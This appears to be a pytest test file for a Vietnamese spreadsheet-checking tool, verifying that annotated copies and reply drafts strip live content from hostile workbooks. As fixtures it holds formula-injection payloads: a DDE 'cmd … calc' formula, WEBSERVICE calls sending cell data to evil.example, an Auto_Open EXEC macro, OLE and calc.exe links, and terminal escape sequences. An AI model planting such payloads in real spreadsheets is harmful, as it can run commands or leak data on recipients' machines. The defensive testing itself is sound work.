"""Outputs of hostile inputs: annotated copies and reply drafts are always made (or the reason said),
carry nothing live (formulas, external links, DDE, connections, OLE, macros), and nothing an input
holds reaches the terminal raw."""

from __future__ import annotations

import dataclasses
import datetime as dt
import email
import re
import shutil
import subprocess
import zipfile
from email import policy
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink

from checker import validate_files, write_annotated_copies

from checker import consolidate
from checker.write.annotated_copy import annotated_copy
from checker.write.result_sheet import REMOVED_TITLE, SUMMARY_SHEET
from checker.cli import main
from checker.write.filling import fill_template
from checker.write.feedback import write_feedback
from checker.write.console import consolidation_summary, copy_failures, findings_table, one_line, summary_line
from checker.write.terminal import printable

from ..builders import hostile_outputs as h
from ..conftest import good_info, good_row
from ..builders.hostile import NOMINATIONS_SHEET, many_rows

AS_OF = dt.date(2023, 5, 20)
NOM = "Danh sách đề nghị"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OFFICE = shutil.which("libreoffice") or shutil.which("soffice")


@pytest.fixture(scope="module")
def base_source(tmp_path_factory, rules):
    path = tmp_path_factory.mktemp("base") / "base.xlsx"
    return fill_template(rules, path, as_of=dt.date(2023, 5, 2), unit="CHEO", period="2023-05", info=good_info(),
                         nominations=[good_row(1, gender="Na"), good_row(2)])


@pytest.fixture
def base(base_source, tmp_path):
    """Two nominations; row 5's gender “Na” is an error (DN-DANHMUC at D5). Built once, copied per test."""
    return Path(shutil.copy(base_source, tmp_path / "base.xlsx"))


def annotate(path: Path, rules, out: Path):
    validation = validate_files([path], rules, as_of=AS_OF)
    assert [b.rejected for b in validation.books] == [None]
    return write_annotated_copies(validation, out, inputs=[path])


def only_copy(path: Path, rules, out: Path) -> openpyxl.Workbook:
    """Annotate one file; its copy must be written and inert. Returns the copy, loaded."""
    copies = annotate(path, rules, out)
    assert copies.failures == []
    [copy] = copies
    return inert(copy)


def inert(copy: Path) -> openpyxl.Workbook:
    """Assert the copy holds no formula cell, external relationship, live part or link leaving the
    workbook; return it loaded (data_only=False: a formula would show as one)."""
    with zipfile.ZipFile(copy) as z:
        for name in z.namelist():
            assert not name.startswith(("xl/externalLinks/", "xl/embeddings/", "xl/activeX/")), name
            assert name not in ("xl/connections.xml", "xl/vbaProject.bin"), name
            if name.endswith(".rels"):
                assert b"External" not in z.read(name), name
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[\s>/]", z.read(name)), name
    wb = openpyxl.load_workbook(copy)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.hyperlink is not None:
                    assert not cell.hyperlink.target and cell.hyperlink.location, (ws.title, cell.coordinate)
    return wb


def removed(wb: openpyxl.Workbook) -> list[tuple[str, str, str, str]]:
    """The rows of the result sheet's “Nội dung đã gỡ khỏi bản sao” section: (kind, sheet, cell, detail)."""
    rows = [[c.value for c in r] for r in wb[SUMMARY_SHEET].iter_rows(max_col=6)]
    starts = [i for i, r in enumerate(rows) if r[0] == REMOVED_TITLE.upper()]
    if not starts:
        return []
    items = []
    for r in rows[starts[0] + 3:]:
        if not any(r):
            break
        items.append((r[0] or "", r[1] or "", r[2] or "", r[5] or ""))
    return items


def values(wb: openpyxl.Workbook, sheet: str, refs: list[str]) -> list:
    return [wb[sheet][ref].value for ref in refs]


# ---------------------------------------------------------------------------------------------
# Family 9: live content is replaced by cached values or removed, and listed


WEB = 'WEBSERVICE("http://evil.example/?q="&B9)'
CALC = "file:///C:/Windows/System32/calc.exe"


def _links(ws):
    ws["B5"].hyperlink = "http://evil.example/a"
    ws["C5"].hyperlink = CALC


def _validation(ws):
    dv = DataValidation(type="list", formula1='WEBSERVICE("http://evil.example/")', sqref="S5:S10")
    ws.add_data_validation(dv)


def _other_book_validation(ws):
    ws.add_data_validation(DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$3", sqref="R5:R10"))


def _conditional(ws):
    ws.conditional_formatting.add("A5:S10", FormulaRule(formula=['WEBSERVICE("http://evil.example/")<>""'],
                                                        fill=PatternFill("solid", fgColor="FF0000")))


LIVE = {
    "DDE formula": (
        lambda s, t: h.set_cells(s, t, {"B5": h.formula_cell("B5", "cmd|' /C calc'!A0", "Nguyễn Thị Hoa 1")}),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Công thức", NOM, "B5", "=cmd|' /C calc'!A0")]),
    "WEBSERVICE": (
        lambda s, t: h.set_cells(s, t, {"F5": h.formula_cell("F5", WEB, "Diễn viên, Đoàn 1")}),
        {"F5": "Diễn viên, Đoàn 1"},
        [("Công thức", NOM, "F5", "=" + WEB)]),
    "HYPERLINK formula": (
        lambda s, t: h.set_cells(s, t, {"F5": h.formula_cell("F5", f'HYPERLINK("{CALC}","Diễn viên")', "Diễn viên")}),
        {"F5": "Diễn viên"},
        [("Công thức", NOM, "F5", f'=HYPERLINK("{CALC}","Diễn viên")')]),
    "number formula": (
        lambda s, t: h.set_cells(s, t, {"E5": h.formula_cell("E5", "1984+1", "1985", kind="n")}),
        {"E5": 1985},
        [("Công thức", NOM, "E5", "=1984+1")]),
    "formula saved without a value": (
        lambda s, t: h.set_cells(s, t, {"O5": h.formula_cell("O5", '"Thư"&" cảm ơn"', None)}),
        {"O5": None},
        [("Công thức", NOM, "O5", '="Thư"&" cảm ơn" — tệp không lưu giá trị của công thức, ô để trống')]),
    "shared formula": (
        lambda s, t: h.set_cells(s, t, {
            "E5": '<c r="E5"><f t="shared" ref="E5:E6" si="0">1984+1</f><v>1985</v></c>',
            "E6": '<c r="E6"><f t="shared" si="0"/><v>1985</v></c>'}),
        {"E5": 1985, "E6": 1985},
        [("Công thức", NOM, "E5", "=1984+1"),
         ("Công thức", NOM, "E6", "công thức dùng chung của nhóm ô (chép từ ô đầu nhóm)")]),
    "array formula": (
        lambda s, t: h.set_cells(s, t, {"E5": '<c r="E5"><f t="array" ref="E5">MAX(1985)</f><v>1985</v></c>'}),
        {"E5": 1985},
        [("Công thức", NOM, "E5", "=MAX(1985)")]),
    "external hyperlinks": (
        lambda s, t: h.with_openpyxl(s, t, _links),
        {"B5": "Nguyễn Thị Hoa 1", "C5": "Cá nhân"},
        [("Liên kết ngoài", NOM, "B5", "http://evil.example/a"), ("Liên kết ngoài", NOM, "C5", CALC)]),
    "DDE link part": (
        lambda s, t: h.with_dde_link(s, t),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Liên kết DDE", "", "", "cmd|/C calc")]),
    "link to another workbook": (
        lambda s, t: h.with_external_book(s, t, "file:///C:/Users/x/Documents/khac.xlsx"),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Liên kết tới sổ tính khác", "", "", "file:///C:/Users/x/Documents/khac.xlsx")]),
    "data connection": (
        lambda s, t: h.with_connection(s, t, "Web", "http://evil.example/data"),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Kết nối dữ liệu", "", "", "“Web” http://evil.example/data")]),
    "OLE object": (
        lambda s, t: h.with_ole_object(s, t, CALC),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Đối tượng nhúng", NOM, "", f"đối tượng OLE Package → {CALC}")]),
    "defined name": (
        lambda s, t: h.with_defined_name(s, t, "Lay", 'WEBSERVICE("http://evil.example/")'),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Tên định nghĩa", "", "", 'tên “Lay” = WEBSERVICE("http://evil.example/")')]),
    "data validation calling out": (
        lambda s, t: h.with_openpyxl(s, t, _validation),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Kiểm tra dữ liệu", NOM, "S5:S10", '=WEBSERVICE("http://evil.example/")')]),
    "data validation from another workbook": (
        lambda s, t: h.with_openpyxl(s, t, _other_book_validation),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Kiểm tra dữ liệu", NOM, "R5:R10", "=[1]Sheet1!$A$1:$A$3")]),
    "conditional format calling out": (
        lambda s, t: h.with_openpyxl(s, t, _conditional),
        {"B5": "Nguyễn Thị Hoa 1"},
        [("Định dạng có điều kiện", NOM, "A5:S10", '=WEBSERVICE("http://evil.example/")<>""')]),
}


@pytest.mark.parametrize("case", list(LIVE))
def test_live_content_is_replaced_and_listed(case, base, rules, tmp_path):
    """Formulas become their cached values and links, DDE, connections, OLE and live rules are removed;
    the result sheet lists each, and the copy holds nothing live."""
    build, cells, expected = LIVE[case]
    path = build(base, tmp_path / "live.xlsx")
    wb = only_copy(path, rules, tmp_path / "out")
    assert values(wb, NOM, list(cells)) == list(cells.values())
    assert removed(wb) == expected
    assert "DN-DANHMUC" in wb[NOM]["D5"].comment.text  # the finding is still marked at its cell


def test_macros_are_not_carried(base, rules, tmp_path):
    """An .xlsm's VBA project is listed as removed; the copy is a plain .xlsx."""
    path = h.with_macros(base, tmp_path / "macro.xlsm")
    copies = annotate(path, rules, tmp_path / "out")
    assert [p.name for p in copies] == ["macro_danh_dau.xlsx"]
    assert removed(inert(copies[0])) == [("Macro", "", "", "mã VBA (xl/vbaProject.bin)")]


def test_excel4_macro_sheet(base, rules, tmp_path):
    """An Excel 4.0 macro sheet (calamine refuses the file; the copy path is still safe on its own):
    its formulas become values, Auto_Open goes, both listed."""
    validation = validate_files([base], rules, as_of=AS_OF)
    path = h.with_macro_sheet(base, tmp_path / "xlm.xlsx")
    copy = tmp_path / "xlm_danh_dau.xlsx"
    copy.write_bytes(annotated_copy(path.read_bytes(), "xlsx", validation.findings, "xlm.xlsx", rules.limits))
    wb = inert(copy)
    assert (wb["Macro1"]["A1"].value, dict(wb.defined_names)) == (True, {})
    assert removed(wb) == [("Tên định nghĩa", "", "", "tên “Auto_Open” = Macro1!$A$1"),
                           ("Macro", "Macro1", "", "trang macro Excel 4.0: bản sao chỉ giữ giá trị các ô"),
                           ("Công thức", "Macro1", "A1", '=EXEC("calc.exe")')]


def test_every_value_is_the_original(base, rules, tmp_path):
    """Through the streaming rewrite every cell of every sheet keeps its value: rich text, spaces,
    markup characters, numbers and dates."""
    rich = ('<c r="B5" t="inlineStr"><is><r><t xml:space="preserve">  Nguyễn </t></r><r><rPr><b/></rPr>'
            '<t>&amp; &lt;Hoa&gt; "1"</t></r></is></c>')
    path = h.set_cells(base, tmp_path / "giu.xlsx", {"B5": rich})
    wb = only_copy(path, rules, tmp_path / "out")
    original = openpyxl.load_workbook(path, data_only=True)
    assert wb["Danh sách đề nghị"]["B5"].value == '  Nguyễn & <Hoa> "1"'
    for ws in original.worksheets:
        assert ({c.coordinate: c.value for row in ws.iter_rows() for c in row if c.value is not None}
                == {c.coordinate: c.value for row in wb[ws.title].iter_rows() for c in row if c.value is not None})


def test_template_rules_stay(base, rules, tmp_path):
    """The template's own dropdowns (references to its list sheet) are inert and kept, and so is its
    heading: merged blocks of two-line rich text."""
    wb = only_copy(base, rules, tmp_path / "out")
    original, ws = openpyxl.load_workbook(base)[NOM], wb[NOM]
    assert removed(wb) == []
    assert ([dv.formula1 for dv in ws.data_validations.dataValidation]
            == [dv.formula1 for dv in original.data_validations.dataValidation])
    assert {str(r) for r in ws.merged_cells.ranges} == {str(r) for r in original.merged_cells.ranges} >= {"B1:E1"}
    assert ws["F1"].value == original["F1"].value == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc"


def test_internal_link_stays(base, rules, tmp_path):
    """A unit's link to a place in its own workbook is kept (only links leaving the file go)."""
    def link(ws):
        ws["B5"].hyperlink = Hyperlink(ref="B5", location="'Thông tin đơn vị'!A1")

    wb = only_copy(h.with_openpyxl(base, tmp_path / "noi_bo.xlsx", link), rules, tmp_path / "out")
    assert wb[NOM]["B5"].hyperlink.location == "'Thông tin đơn vị'!A1"
    assert removed(wb) == []


def test_everything_at_once(base, rules, tmp_path):
    """Formulas, links, DDE, a connection and an OLE object in one file: all listed, in order."""
    path = h.set_cells(base, tmp_path / "a.xlsx", {"B5": h.formula_cell("B5", "cmd|' /C calc'!A0", "Nguyễn Thị Hoa 1")})
    path = h.with_dde_link(path, tmp_path / "b.xlsx")
    path = h.with_connection(path, tmp_path / "c.xlsx", "Web", "http://evil.example/data")
    path = h.with_ole_object(path, tmp_path / "d.xlsx", CALC)
    wb = only_copy(path, rules, tmp_path / "out")
    assert removed(wb) == [("Công thức", NOM, "B5", "=cmd|' /C calc'!A0"),
                           ("Đối tượng nhúng", NOM, "", f"đối tượng OLE Package → {CALC}"),
                           ("Liên kết DDE", "", "", "cmd|/C calc"),
                           ("Kết nối dữ liệu", "", "", "“Web” http://evil.example/data")]
    # The removed cell links to itself in the copy.
    ws = wb[SUMMARY_SHEET]
    [link] = [c.hyperlink.location for row in ws.iter_rows() for c in row
              if c.hyperlink is not None and c.value == "B5" and c.row > 6]
    assert link == f"'{NOM}'!B5"


# ---------------------------------------------------------------------------------------------
# Family 6: files `check` reads fine always get a copy


RENAMES = {
    "slash": ("Hướng dẫn", "Hướng/dẫn", "Hướng_dẫn", "có ký tự / mà Excel không cho phép trong tên trang"),
    "brackets": ("Hướng dẫn", "Hướng [dẫn]", "Hướng _dẫn_", "có ký tự [ ] mà Excel không cho phép trong tên trang"),
    "colon, star, question mark": ("Tổng kết", "Tổng kết: *?", "Tổng kết_ __",
                                   "có ký tự * : ? mà Excel không cho phép trong tên trang"),
    "backslash": ("Tổng kết", "Tổng\\kết", "Tổng_kết", "có ký tự \\ mà Excel không cho phép trong tên trang"),
    "over 31 characters": ("Hướng dẫn", "Hướng dẫn điền biểu mẫu báo cáo hằng tháng", "Hướng dẫn điền biểu mẫu báo cáo",
                           "dài quá 31 ký tự"),
    "the result sheet's name": ("Hướng dẫn", SUMMARY_SHEET, f"{SUMMARY_SHEET} (2)", "trùng tên một trang khác"),
    "ends with a quote": ("Hướng dẫn", "Hướng dẫn'", "Hướng dẫn", "trống hoặc bắt đầu, kết thúc bằng dấu nháy"),
}


@pytest.mark.parametrize("case", list(RENAMES))
def test_sheet_names_excel_refuses(case, base, rules, tmp_path):
    """A sheet name openpyxl refuses gets a valid title in the copy, listed with why; findings stay marked."""
    old, new, title, why = RENAMES[case]
    wb = only_copy(h.rename_sheet(base, tmp_path / "ten.xlsx", old, new), rules, tmp_path / "out")
    assert title in wb.sheetnames and wb.sheetnames[0] == SUMMARY_SHEET
    assert removed(wb) == [("Tên trang", title, "", f"tên trang “{new}” {why}: trong bản sao là “{title}”")]
    assert "DN-DANHMUC" in wb[NOM]["D5"].comment.text


@pytest.mark.parametrize("new, title, location", [
    ("Danh sách: đề nghị?", "Danh sách_ đề nghị_", "'Danh sách_ đề nghị_'!D5"),
    ("Danh 'sách' đề nghị", "Danh 'sách' đề nghị", "'Danh ''sách'' đề nghị'!D5"),
    ("O'Brien", "O'Brien", "'O''Brien'!D5"),
])
def test_findings_link_to_renamed_or_quoted_sheets(new, title, location, base, rules, tmp_path):
    """The finding's cell is marked on the sheet's title in the copy; the link quotes it, quotes doubled."""
    wb = only_copy(h.rename_sheet(base, tmp_path / "ten.xlsx", NOM, new), rules, tmp_path / "out")
    assert "DN-DANHMUC" in wb[title]["D5"].comment.text
    [link] = [c.hyperlink.location for row in wb[SUMMARY_SHEET].iter_rows(min_row=5) for c in row
              if c.hyperlink is not None and c.value == "D5"]
    assert link == location


DAMAGED = {
    "core.xml cut short": {"docProps/core.xml": lambda d: d[:40]},
    "core.xml not XML": {"docProps/core.xml": lambda d: b"\x00\xffkhong phai xml"},
    "app.xml cut short": {"docProps/app.xml": lambda d: d[:30]},
    "core.xml with a bad date": {"docProps/core.xml": lambda d: re.sub(rb"<dcterms:created[^>]*>[^<]*",
                                                                       b'<dcterms:created xsi:type="dcterms:W3CDTF">'
                                                                       b"ngay 32", d)},
}


@pytest.mark.parametrize("case", list(DAMAGED))
def test_damaged_properties_do_not_stop_the_copy(case, base, rules, tmp_path):
    """Document properties are not needed in a copy: damaged ones are dropped, the copy keeps its format."""
    wb = only_copy(h.edit_parts(base, tmp_path / "hong.xlsx", DAMAGED[case]), rules, tmp_path / "out")
    assert removed(wb) == []
    assert wb.sheetnames[1:] == openpyxl.load_workbook(base).sheetnames
    assert values(wb, NOM, ["B5", "D5", "E6"]) == ["Nguyễn Thị Hoa 1", "Na", 1985]


REBUILT_NOTES = [("Trang", "Hướng dẫn", "", "trang không được chép (bản dựng lại chỉ gồm các trang đã kiểm tra)"),
                 ("Trang", "Danh mục", "", "trang không được chép (bản dựng lại chỉ gồm các trang đã kiểm tra)"),
                 ("Trang", "_ntvt", "", "trang không được chép (bản dựng lại chỉ gồm các trang đã kiểm tra)")]


@pytest.mark.parametrize("case, edit, error", [
    ("number format id not a number",
     lambda d: d.replace(b"<fonts", b'<numFmts count="1"><numFmt numFmtId="abc" formatCode="x"/></numFmts><fonts', 1),
     "TypeError"),
    ("font size not a number", lambda d: re.sub(rb'<sz val="[^"]*"', b'<sz val="to"', d), "TypeError"),
])
def test_damaged_styles_give_a_copy_from_values(case, edit, error, base, rules, tmp_path):
    """A stylesheet openpyxl cannot read (calamine can): the copy is rebuilt from the values, and says so."""
    wb = only_copy(h.edit_parts(base, tmp_path / "kieu.xlsx", {"xl/styles.xml": edit}), rules, tmp_path / "out")
    assert removed(wb) == [("Bản sao", "", "", f"không mở được cấu trúc tệp gốc ({error}): bản sao dựng lại từ giá "
                                                 "trị đã lưu, không có công thức, liên kết và định dạng của tệp gốc")
                             ] + REBUILT_NOTES
    assert values(wb, NOM, ["B5", "D5", "E6"]) == ["Nguyễn Thị Hoa 1", "Na", 1985]
    assert "DN-DANHMUC" in wb[NOM]["D5"].comment.text


def test_doctype_past_the_probe(base, rules, tmp_path):
    """A DOCTYPE after the first 4 KiB of a part is never parsed by openpyxl: the copy is rebuilt from values."""
    path = h.doctype_after_probe(base, tmp_path / "dtd.xlsx", "xl/worksheets/sheet1.xml")
    validation = validate_files([base], rules, as_of=AS_OF)  # the findings of the same cells
    data = annotated_copy(path.read_bytes(), "xlsx", validation.findings, "dtd.xlsx", rules.limits,
                          sheets={"Thông tin đơn vị", NOM, "Hoạt động", "Tổng kết"})
    copy = tmp_path / "dtd_danh_dau.xlsx"
    copy.write_bytes(data)
    wb = inert(copy)
    assert removed(wb) == [("Bản sao", "", "", "không mở được cấu trúc tệp gốc (ValueError): bản sao dựng lại từ "
                                                 "giá trị đã lưu, không có công thức, liên kết và định dạng của tệp gốc")
                             ] + REBUILT_NOTES
    assert values(wb, NOM, ["B5", "D5"]) == ["Nguyễn Thị Hoa 1", "Na"]


@pytest.mark.parametrize("stored, shown", [
    ("N_x0001_a", "N␁a"),
    ("_x001b_]52;c;aGk=_x0007_", "␛]52;c;aGk=␇"),
    ("_x001b_[2J_x001b_]0;pwn_x0007_", "␛[2J␛]0;pwn␇"),
])
def test_control_characters_in_values(stored, shown, base, rules, tmp_path):
    """Escaped control characters (openpyxl IllegalCharacterError) are shown as visible symbols, in the
    cell and in the comment quoting it."""
    path = h.set_cells(base, tmp_path / "ctrl.xlsx", {"D5": f'<c r="D5" t="inlineStr"><is><t>{stored}</t></is></c>'})
    wb = only_copy(path, rules, tmp_path / "out")
    assert wb[NOM]["D5"].value == shown
    assert f"(nhận được “{shown}”)" in wb[NOM]["D5"].comment.text
    count = len(re.findall("_x00", stored))
    assert removed(wb) == [("Ký tự điều khiển", NOM, "", f"{count} ký tự điều khiển trong nội dung ô được thay bằng "
                                                           "ký hiệu nhìn thấy được (như ␁)")]


def test_ods_with_control_characters(rules, tmp_path):
    """An .ods whose text holds control characters is rebuilt with them visible; sheet names made valid."""
    path = h.minimal_ods(tmp_path / "don_vi.ods", {"Trang/1": [["N\x01a\x1b]0;pwn\x07", "b"]]})
    wb = only_copy(path, rules, tmp_path / "out")
    assert values(wb, "Trang_1", ["A1", "B1"]) == ["N␁a␛]0;pwn␇", "b"]
    assert removed(wb) == [
        ("Bản sao", "", "", "tệp .xls/.ods được dựng lại thành .xlsx từ giá trị đã lưu: công thức, liên kết và định "
                            "dạng không được chép"),
        ("Tên trang", "Trang_1", "", "tên trang “Trang/1” có ký tự / mà Excel không cho phép trong tên trang: trong "
                                     "bản sao là “Trang_1”")]


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is needed to write a .xls file")
def test_xls_with_control_characters(base, rules, tmp_path):
    """A .xls (written by LibreOffice) holding a control character: the rebuilt copy shows it visible."""
    source = h.set_cells(base, tmp_path / "ctrl.xlsx", {"D5": '<c r="D5" t="inlineStr"><is><t>N_x0001_a</t></is></c>'})
    subprocess.run([OFFICE, "--headless", "--convert-to", "xls", "--outdir", str(tmp_path / "xls"), str(source)],
                   check=True, capture_output=True, timeout=120)
    ws = only_copy(tmp_path / "xls" / "ctrl.xls", rules, tmp_path / "out")[NOM]
    assert ws["D5"].value == "N␁a" and "DN-DANHMUC" in ws["D5"].comment.text


# Bounded cost: merges, links and formatting beyond the data


def _merges(wb: openpyxl.Workbook) -> set[str]:
    return {str(r) for r in wb[NOM].merged_cells.ranges}


HEADING = {"B1:E1", "F1:H1", "F2:H2", "B3:H3"}  # the template's own (template_form)


@pytest.mark.parametrize("refs", [
    ["A20:XFD1048576"],  # the 8.6 KB merge bomb
    [f"A{r}:S{r}" for r in range(3000, 5000)],  # 2,000 merges far below the data
    ["A1:XFD1"],  # a title merged across every column
])
def test_merges_beyond_the_data_are_dropped(refs, base, rules, tmp_path):
    """openpyxl makes one object per merged cell: merges outside the data's box never reach it."""
    wb = only_copy(h.with_merges(base, tmp_path / "gop.xlsx", refs), rules, tmp_path / "out")
    assert _merges(wb) == _merges(openpyxl.load_workbook(base)) == HEADING
    assert removed(wb) == []


def test_merges_inside_the_data_stay(base, rules, tmp_path):
    """A merge within the data is kept; a finding in its covered cell is marked on its first cell."""
    path = h.with_merges(base, tmp_path / "gop.xlsx", ["D5:E5"])
    wb = only_copy(path, rules, tmp_path / "out")
    assert _merges(wb) == {"D5:E5"} | HEADING
    assert "DN-DANHMUC" in wb[NOM]["D5"].comment.text and "DN-NAMSINH" in wb[NOM]["D5"].comment.text
    assert removed(wb) == []


def test_hyperlink_over_the_whole_sheet(base, rules, tmp_path):
    """An internal hyperlink covering A1:XFD1048576 (a cell per covered cell in openpyxl) is dropped."""
    path = h.edit_parts(base, tmp_path / "lien_ket.xlsx", {NOMINATIONS_SHEET: h.append_to_sheet(
        '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>')})
    wb = only_copy(path, rules, tmp_path / "out")
    assert wb[NOM]["A1"].hyperlink is None
    assert removed(wb) == []


def test_formatted_rows_far_below_the_data(base, rules, tmp_path):
    """20,000 formatting-only rows from row 1000: those within 1,000 rows of the values (the last is
    the signature block's, row 32) are kept, no more."""
    wb = only_copy(many_rows(base, tmp_path / "dong.xlsx", 20_000, with_values=False), rules, tmp_path / "out")
    assert wb[NOM].max_row == 1032


# Copies that cannot be made: the reason, and the rest goes on


def _small(rules):
    return dataclasses.replace(rules, limits=dataclasses.replace(rules.limits, max_rows=300, max_columns=30))


def test_too_many_cells_is_a_failure_not_a_crash(base, make_book, rules, tmp_path):
    """A copy over the cell budget is skipped with its reason; the other file's copy is written."""
    rules = _small(rules)
    big = h.with_extra_sheet(base, tmp_path / "lon.xlsx", "Phụ lục", 100, 100)
    other = make_book([good_row(gender="Na")], name="khac.xlsx")
    validation = validate_files([big, other], rules, as_of=AS_OF)
    copies = write_annotated_copies(validation, tmp_path / "out", inputs=[big, other])
    assert copies.failures == [(str(big), "tệp có hơn 9,000 ô có dữ liệu, quá lớn để làm bản sao có đánh dấu")]
    assert [p.name for p in copies] == ["khac_danh_dau.xlsx"]


@pytest.mark.parametrize("change, reason", [
    (lambda p: p.write_bytes(p.read_bytes() + b"\0"), "tệp đã thay đổi sau khi được kiểm tra nên không đánh dấu được"),
    (lambda p: p.unlink(), "tệp không còn đọc được lúc làm bản sao có đánh dấu"),
])
def test_input_changed_or_gone_after_the_check(change, reason, make_book, rules, tmp_path):
    """A file edited or removed between check and copy is a recorded failure; the others are copied."""
    inbox = tmp_path / "inbox"
    first = make_book([good_row(gender="Na")], name="a.xlsx", directory=inbox)
    second = make_book([good_row(gender="Na")], name="b.xlsx", directory=inbox)
    result = consolidate(inbox, None, rules, as_of=dt.date(2023, 5, 31))
    files = {b.name: b for b in result.validation.books}
    validation = result.validation
    change(first)
    copies = write_annotated_copies(validation, tmp_path / "out", inputs=[inbox])
    [name] = [n for n in files if n.endswith("a.xlsx")]
    assert copies.failures == [(name, reason)]
    assert [p.name for p in copies] == ["b_danh_dau.xlsx"]
    assert second.exists()


# ---------------------------------------------------------------------------------------------
# Reply drafts over 24 units


HOSTILE_UNITS = {
    "CHEO": lambda s, t: h.rename_sheet(s, t, "Hướng dẫn", "Hướng/dẫn"),
    "KICH": lambda s, t: h.set_cells(s, t, {"D5": '<c r="D5" t="inlineStr"><is><t>N_x0001_a</t></is></c>'}),
    "CMNTL": lambda s, t: h.edit_parts(s, t, {"docProps/core.xml": lambda d: d[:40]}),
    "VP": lambda s, t: h.with_merges(s, t, ["A20:XFD1048576"]),
    "TTRA": lambda s, t: h.set_cells(s, t, {"B5": h.formula_cell("B5", "cmd|' /C calc'!A0", "Nguyễn Thị Hoa 1")}),
    "KHTC": lambda s, t: h.with_openpyxl(s, t, _links),
    "TCPC": lambda s, t: h.edit_parts(s, t, {"xl/styles.xml": lambda d: re.sub(rb'<sz val="[^"]*"', b'<sz val="to"', d)}),
}


BROKEN_UNIT = "QLVH"
TOO_BIG = "tệp có hơn 9,000 ô có dữ liệu, quá lớn để làm bản sao có đánh dấu"


@pytest.fixture(scope="module")
def inbox24(tmp_path_factory, rules):
    """One file with an error per unit, seven of them hostile in ways that crashed copies before, and
    QLVH's with an extra sheet over the copy budget of a rules file limiting sheets to 300 × 30 cells."""
    root = tmp_path_factory.mktemp("inbox24")
    inbox = root / "inbox"
    inbox.mkdir()
    for unit in rules.units:
        plain = fill_template(rules, root / f"{unit.id}.xlsx", as_of=dt.date(2023, 5, 2), unit=unit.id,
                              period="2023-05", info=good_info(), nominations=[good_row(1, gender="Na"), good_row(2)])
        target = inbox / f"{unit.id}.xlsx"
        if unit.id == BROKEN_UNIT:
            h.with_extra_sheet(plain, target, "Phụ lục", 100, 100)
        elif unit.id in HOSTILE_UNITS:
            HOSTILE_UNITS[unit.id](plain, target)
        else:
            shutil.copy(plain, target)
    rules_file = root / "quy_tac.yaml"
    rules_file.write_text(Path(rules.path).read_text(encoding="utf-8") + "\nlimits:\n  max_rows: 300\n"
                          "  max_columns: 30\n", encoding="utf-8")
    return inbox, rules_file


def _draft(folder: Path, unit: str):
    message = email.message_from_bytes((folder / f"{unit}.eml").read_bytes(), policy=policy.default)
    return message, message.get_body(("plain",)).get_content(), list(message.iter_attachments())


def test_feedback_for_24_units_goes_on_past_a_copy_that_cannot_be_made(inbox24, rules, tmp_path):
    """`ntvt consolidate --feedback` over 24 units: every draft is written; the 23 copies that can be
    made are attached and inert (seven from files that crashed copies before); QLVH's draft says why
    its copy is missing, and so does the terminal."""
    assert len(rules.units) == 24
    inbox, rules_file = inbox24
    out = tmp_path / "tra_loi"
    result = CliRunner().invoke(main, ["consolidate", str(inbox), "-o", str(tmp_path / "tong_hop.xlsx"),
                                       "--feedback", str(out), "--as-of", "2023-05-31", "--rules", str(rules_file)])
    assert result.exit_code == 1, result.output
    assert "Đã ghi 24 thư trả lời soạn sẵn và 23 bản sao có đánh dấu." in result.output
    assert (f"Không tạo được 1 bản sao có đánh dấu (lỗi vẫn được liệt kê đầy đủ):\n  - {BROKEN_UNIT}.xlsx: "
            f"{TOO_BIG}") in result.output
    assert not CONTROL.search(result.output)
    assert sorted(p.name for p in out.glob("*.eml")) == sorted(f"{u.id}.eml" for u in rules.units)
    for unit in rules.units:
        _, body, attachments = _draft(out, unit.id)
        assert "Ô D5 – “Giới tính” phải là một trong: Nam, Nữ" in body
        if unit.id == BROKEN_UNIT:
            assert attachments == [] and not (out / unit.id).exists()
            assert f"Không gửi kèm được bản sao có đánh dấu của:\n- Tệp “{unit.id}.xlsx”: {TOO_BIG}.\n" in body
            continue
        [attachment] = attachments
        assert attachment.get_filename() == f"{unit.id}_danh_dau.xlsx"
        copy = out / unit.id / attachment.get_filename()
        assert copy.read_bytes() == attachment.get_content()
        wb = inert(copy)
        assert "DN-DANHMUC" in wb[NOM]["D5"].comment.text
        assert "Không gửi kèm được" not in body
    _, body, _ = _draft(out, "KICH")
    assert "(nhận được “N␁a”)" in body and "\x01" not in body
    assert removed(inert(out / "TTRA" / "TTRA_danh_dau.xlsx")) == [("Công thức", NOM, "B5", "=cmd|' /C calc'!A0")]
    assert removed(inert(out / "KHTC" / "KHTC_danh_dau.xlsx")) == [
        ("Liên kết ngoài", NOM, "B5", "http://evil.example/a"), ("Liên kết ngoài", NOM, "C5", CALC)]


def test_feedback_after_a_file_changed(rules, tmp_path):
    """A unit's file edited after the consolidation read it: its draft says so, the others attach copies."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for unit in ("CHEO", "KICH", "NSVH"):
        fill_template(rules, inbox / f"{unit}.xlsx", as_of=dt.date(2023, 5, 2), unit=unit, period="2023-05",
                      info=good_info(), nominations=[good_row(gender="Na")])
    result = consolidate(inbox, None, rules, as_of=dt.date(2023, 5, 31))
    (inbox / "NSVH.xlsx").write_bytes((inbox / "NSVH.xlsx").read_bytes() + b"\0")
    written = write_feedback(result, tmp_path / "tra_loi", inputs=[inbox])
    reason = "tệp đã thay đổi sau khi được kiểm tra nên không đánh dấu được"
    assert written.failures == [("NSVH.xlsx", reason)]
    _, body, attachments = _draft(tmp_path / "tra_loi", "NSVH")
